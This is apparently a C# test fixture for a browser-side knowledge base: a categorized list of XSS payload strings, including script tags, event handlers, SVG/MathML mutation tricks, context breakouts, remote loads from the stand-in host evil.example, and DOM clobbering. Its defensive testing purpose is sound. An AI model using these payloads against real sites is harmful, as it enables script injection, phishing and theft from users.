namespace KnowledgeBase.Browser.Tests.Hostile;

/// <summary>HTML that acts, and HTML that only acts after a second reading or in another place than it was written for.</summary>
internal static class HostileMarkup
{
    private const string Run = "canary=alert(1)";

    public static IEnumerable<HostileText> All { get; } =
    [
        .. Of("script", [
            $"<script>{Run}</script>", $"<SCRIPT>{Run}</SCRIPT >", $"<script\n>{Run}</script\n>", $"<script/x>{Run}</script>", $"<script src=//evil.example/x.js></script>", $"<script type=module>{Run}</script>",
            $"<script>{Run}", $"<<script>{Run}//<</script>", $"<scr<script>ipt>{Run}</scr</script>ipt>", $"<script async src=\"data:text/javascript,{Run}\"></script>", $"\u3000<script>{Run}</script>\u3000", $"<script charset=utf-7>+ADw-script+AD4-{Run}</script>",
            $"</p><script>{Run}</script>", $"</div></main></body><script>{Run}</script>", "<script type=\"importmap\">{\"imports\":{\"x\":\"//evil.example/x.js\"}}</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/\"]}]}</script>",
        ]),
        .. Of("event handler", [
            $"<img src=x onerror={Run}>", $"<img src=\"x\"onerror=\"{Run}\">", $"<img/src=x/onerror={Run}>", $"<IMG SRC=x OnErRoR={Run}>", $"<img src=x onerror\n=\n{Run}>", "<img src=x onerror=&#99;anary&#61;alert(1)>", $"<svg onload={Run}>", $"<body onload={Run}>", $"<input autofocus onfocus={Run}>",
            $"<details open ontoggle={Run}>题</details>", $"<video><source onerror={Run}></video>", $"<audio src=x onerror={Run}>", $"<marquee onstart={Run}>走</marquee>", $"<p onpointerenter={Run} style=position:fixed;inset:0>盖</p>", $"<a tabindex=0 onfocus={Run} autofocus>a</a>",
            $"<div onanimationstart={Run} style=animation:x>动</div>", $"<body onpageshow={Run}>", $"<p contenteditable onbeforeinput={Run}>写</p>", $"<select onfocusin={Run} autofocus></select>", $"<img src=x onerror=`{Run}`>", $"<x oncontentvisibilityautostatechange={Run} style=display:block;content-visibility:auto>",
        ]),
        .. Of("foreign content", [
            $"<svg><script>{Run}</script></svg>", $"<svg><script href=\"data:text/javascript,{Run}\" /></svg>", $"<svg><a xlink:href=\"javascript:{Run}\"><text y=20>击</text></a></svg>", $"<svg><animate onbegin={Run} attributeName=x dur=1s>", $"<svg><set attributeName=href to=javascript:{Run}>",
            $"<svg><foreignObject><body onload={Run}></foreignObject></svg>", "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>", $"<svg><style><img src=x onerror={Run}></style></svg>", $"<math><mtext><table><mglyph><style><img src=x onerror={Run}></style></mglyph></table></mtext></math>",
            $"<math href=\"javascript:{Run}\">击</math>", $"<math><annotation-xml encoding=\"text/html\"><img src=x onerror={Run}></annotation-xml></math>", "<svg><image href=//evil.example/x.png></svg>", "<svg><feImage xlink:href=//evil.example/x.svg /></svg>",
        ]),
        .. Of("second reading", [
            $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\">", $"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img src=x onerror={Run}>\">", $"<svg></p><style><a id=\"</style><img src=x onerror={Run}>\">", $"<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src='#' onerror={Run}>\">",
            $"<listing>&lt;img src=x onerror={Run}&gt;</listing>", $"<svg><desc><title><p></title><img src=x onerror={Run}></desc></svg>", $"<xmp><p title=\"</xmp><img src=x onerror={Run}>\">", $"<a id=\"`><img src=x onerror={Run}>`\">", $"<template><script>{Run}</script></template>", $"<template shadowrootmode=open><img src=x onerror={Run}></template>",
            $"<noembed><img title=\"</noembed><img src=x onerror={Run}>\"></noembed>", $"<table><a href=x><td><img src=x onerror={Run}>", $"<select><template><option><img src=x onerror={Run}>", $"<frameset onload={Run}><frame src=javascript:{Run}>", $"<plaintext><script>{Run}</script>", $"&lt;script&gt;{Run}&lt;/script&gt;", $"&amp;lt;script&amp;gt;{Run}&amp;lt;/script&amp;gt;",
            $"\\u003cscript\\u003e{Run}\\u003c/script\\u003e", $"%3Cscript%3E{Run}%3C/script%3E", $"{{{{constructor.constructor('{Run}')()}}}}", $"${{{Run}}}", $"<%= {Run} %>",
        ]),
        .. Of("breaking out", [
            $"\"><script>{Run}</script>", $"'><script>{Run}</script>", $"\" autofocus onfocus=\"{Run}", $"' onmouseover='{Run}", $"` onerror=`{Run}", $"</title><script>{Run}</script>", $"</textarea><script>{Run}</script>", $"</style><script>{Run}</script>", $"</script><script>{Run}</script>", $"</noscript><script>{Run}</script>",
            $"</template><script>{Run}</script>", $"--><script>{Run}</script>", $"--!><script>{Run}</script>", $"]]><script>{Run}</script>", $"<!--<script>{Run}</script>", $"<!--><script>{Run}</script>-->", $"<![CDATA[<script>{Run}</script>]]>", $"<?x ><script>{Run}</script>?>", $"<!x ><script>{Run}</script>", $"</ ><script>{Run}</script>", $"<!-- --!><img src=x onerror={Run}> -->", $"\" /><meta http-equiv=refresh content=0;url=//evil.example>",
            $"\"}};{Run};//", $"';{Run};//", $"\"]}}</script><script>{Run}</script>", "<!--", "-->", "<![CDATA[", "]]>", "</main></body></html>", "<", "&", "\"'`<>&",
        ]),
        .. Of("loading and leading away", [
            "<iframe src=//evil.example></iframe>", $"<iframe srcdoc=\"<script>parent.{Run}</script>\"></iframe>", $"<iframe src=\"javascript:parent.{Run}\"></iframe>", "<object data=//evil.example/x.swf></object>", $"<embed src=\"data:text/html,<script>{Run}</script>\">", "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">", $"<meta http-equiv=\"refresh\" content=\"0;javascript:{Run}\">",
            "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=preload as=script href=//evil.example/x.js>", "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/x)}</style>", "<p style=\"background:url(//evil.example/x)\">底</p>", "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:#fff\">盖住</p>", "<img src=//evil.example/x.png>", "<img srcset=\"//evil.example/x.png 1x\">",
            "<video poster=//evil.example/x.png></video>", "<form action=//evil.example><button>交</button></form>", "<button formaction=//evil.example>交</button>", "<input type=image src=//evil.example/x.png>", "<a href=//evil.example ping=//evil.example/p>击</a>", "<table background=//evil.example/x.png><td>表</td></table>", "<applet code=x></applet>", "<portal src=//evil.example></portal>", "<dialog open>请重新登录</dialog>", "<a target=_blank href=https://evil.example>击</a>", "<html manifest=//evil.example/x>",
        ]),
        .. Of("clobbering", ["<a id=main name=main></a>", "<img name=getElementById>", "<form id=document><input name=cookie></form>", "<p id=site-search-text class=skip>冒名</p>", "<a id=__proto__></a>"]),
    ];

    private static IEnumerable<HostileText> Of(string family, string[] values) => values.Select(value => new HostileText(family, value));
}
